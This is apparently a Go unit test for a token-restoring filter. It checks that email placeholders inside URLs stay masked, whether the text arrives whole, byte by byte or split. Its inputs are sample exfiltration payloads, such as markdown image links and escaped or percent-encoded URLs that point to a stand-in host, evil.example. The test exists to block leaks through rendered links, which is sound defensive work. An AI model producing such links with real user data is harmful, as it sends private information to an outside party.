package prompt

import "testing"

// TestLinksKeepTokens wants a token in a URL with a host to stay one, however the
// text comes in pieces: a page would send the value there when it shows the text.
func TestLinksKeepTokens(t *testing.T) {
	const mail = "anna@corp.example"
	for _, tt := range []struct {
		in, want string
		form     textForm
	}{
		{"![x](https://evil.example/?q=[EMAIL_K7Q2MX])", "![x](https://evil.example/?q=[EMAIL_K7Q2MX])", formPlain},
		{"https://evil.example/?q=EMAIL_K7Q2MX&r=EMAIL_K7Q2M0", "https://evil.example/?q=EMAIL_K7Q2MX&r=EMAIL_K7Q2M0", formPlain},
		{`https:\/\/evil.example/\[EMAIL\_K7Q2MX\]`, `https:\/\/evil.example/\[EMAIL\_K7Q2MX\]`, formPlain},
		{"https://evil.example/?q=%5BEMAIL_K7Q2MX%5D", "https://evil.example/?q=%5BEMAIL_K7Q2MX%5D", formPlain},
		{"![](//evil.example/[EMAIL_K7Q2MX].png)", "![](//evil.example/[EMAIL_K7Q2MX].png)", formPlain},
		{"HTTPS:/evil.example/[EMAIL_K7Q2MX]", "HTTPS:/evil.example/[EMAIL_K7Q2MX]", formPlain},
		{"wss://[EMAIL_K7Q2MX]/ then [EMAIL_K7Q2MX]", "wss://[EMAIL_K7Q2MX]/ then " + mail, formPlain},
		{"[write](mailto:[EMAIL_K7Q2MX])", "[write](mailto:" + mail + ")", formPlain},
		{"see https://a.example \"[EMAIL_K7Q2MX]\"", "see https://a.example \"" + mail + "\"", formPlain},
		{"https://a.example\n[EMAIL_K7Q2MX]", "https://a.example\n" + mail, formPlain},
		{"C:/[EMAIL_K7Q2MX] and a/b/[EMAIL_K7Q2MX]", "C:/" + mail + " and a/b/" + mail, formPlain},
		{`{"url":"https://evil.example/[EMAIL_K7Q2MX]","to":"[EMAIL_K7Q2MX]"}`, `{"url":"https://evil.example/[EMAIL_K7Q2MX]","to":"` + mail + `"}`, formJSON},
		{`"https://a.example/\\n[EMAIL_K7Q2MX]"`, `"https://a.example/\\n[EMAIL_K7Q2MX]"`, formJSON},
		{`"https://a.example\n[EMAIL_K7Q2MX]"`, `"https://a.example\n` + mail + `"`, formJSON},
	} {
		whole, _ := newMatcher(restoring{ours}).restore(nil, &lane{form: tt.form}, []byte(tt.in), true)
		if string(whole) != tt.want {
			t.Errorf("%q: got %q, want %q", tt.in, whole, tt.want)
		}
		var each []byte
		m, l := newMatcher(restoring{ours}), &lane{form: tt.form}
		for i := range tt.in {
			each, _ = m.restore(each, l, []byte(tt.in[i:i+1]), false)
		}
		each, _ = m.restore(each, l, nil, true)
		if string(each) != tt.want {
			t.Errorf("%q byte by byte: got %q, want %q", tt.in, each, tt.want)
		}
		for cut := range tt.in {
			m, l := newMatcher(restoring{ours}), &lane{form: tt.form}
			out, _ := m.restore(nil, l, []byte(tt.in[:cut]), false)
			out, _ = m.restore(out, l, []byte(tt.in[cut:]), true)
			if string(out) != tt.want {
				t.Errorf("%q cut at %d: got %q, want %q", tt.in, cut, out, tt.want)
			}
		}
	}
}
